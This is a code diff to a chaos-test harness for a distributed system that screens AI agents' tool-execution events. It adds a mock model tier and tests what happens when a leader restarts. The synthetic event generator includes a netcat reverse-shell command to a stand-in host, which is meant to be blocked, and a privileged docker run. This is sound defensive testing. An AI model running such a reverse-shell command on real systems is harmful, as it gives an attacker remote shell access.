@@ -5,6 +5,7 @@ import { jetstreamManager } from "@nats-io/jetstream";
 import { connect } from "@nats-io/transport-node";
 import { start, succeed } from "./commands.mjs";
 import { Decided } from "./decided.mjs";
+import { startModel } from "./model.mjs";
 import { Servers } from "./servers.mjs";
 
 /** @typedef {{ events: number, servers: number, workers: number, kills: number, leaderKills: number, cutMs: number, limitMs: number }} Plan */
@@ -12,6 +13,7 @@ import { Servers } from "./servers.mjs";
 const AGENTS = 40;
 const PARTITIONS = 8;
 const AWAY_MS = 2_000;
+const TIER_MS = 50;
 
 /** @param {Plan} plan @param {string} folder */
 export async function chaos(plan, folder) {
@@ -22,7 +24,9 @@ export async function chaos(plan, folder) {
   /** @type {ReturnType<typeof start>[]} */
   const workers = [];
   let started = 0;
-  const startWorker = () => workers.push(start(["worker", "--server", servers.urls, "--name", `w${started++}`]));
+  const model = await startModel(TIER_MS);
+  const startWorker = () =>
+    workers.push(start(["worker", "--server", servers.urls, "--name", `w${started++}`, "--llm-url", model.url]));
   try {
     const size = ["--partitions", String(PARTITIONS), "--replicas", String(plan.servers === 1 ? 1 : 3)];
     await retried(() => succeed(["fleet", "init", "--server", servers.urls, ...size]));
@@ -58,11 +62,15 @@ export async function chaos(plan, folder) {
       const share = fault / (plan.kills + 1);
       await until(share * 0.9);
       workers.shift()?.child.kill("SIGKILL");
-      startWorker();
       counts.kills += 1;
       if (counts.leaderKills < plan.leaderKills && share >= (counts.leaderKills + 1) / (plan.leaderKills + 2)) {
-        await servers.restart(await leader(connection), AWAY_MS);
+        const restarted = servers.restart(await leader(connection), AWAY_MS);
         counts.leaderKills += 1;
+        // A worker that starts while there is no leader.
+        startWorker();
+        await restarted;
+      } else {
+        startWorker();
       }
       if (counts.cuts === 0 && share >= 0.5 && plan.cutMs > 0) {
         await servers.cut(plan.cutMs);
@@ -77,9 +85,11 @@ export async function chaos(plan, folder) {
     await connection.close();
     await reading.catch(() => {});
     decided.check(plan.events);
-    return { decided, counts, tookS: (Date.now() - begin) / 1000 };
+    for (const { child, said } of workers) if (child.exitCode !== null) decided.problem(`a worker ended: ${said}`);
+    return { decided, counts: { ...counts, escalations: model.requests }, tookS: (Date.now() - begin) / 1000 };
   } finally {
     for (const { child } of workers) child.kill("SIGKILL");
+    model.close();
     await servers.stop();
   }
 }
@@ -98,12 +108,14 @@ async function feed(input, events, progress) {
   input.end();
 }
 
-/** One event in a hundred is blocked. @param {number} number */
+/** One event in a hundred is blocked, and one in five hundred is for the slow tier. @param {number} number */
 function line(number) {
   const argv =
     number % 100 === 0
       ? ["/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"]
-      : ["/usr/bin/git", "status", `n${number}`];
+      : number % 500 === 1
+        ? ["docker", "run", "--privileged", `registry.example/build:${number}`]
+        : ["/usr/bin/git", "status", `n${number}`];
   const agent = `agent.${(number * 7919) % AGENTS}`;
   return `${JSON.stringify({ identity: { agent }, id: `${number}`, event: { ToolExec: { pid: 7, argv } } })}\n`;
 }
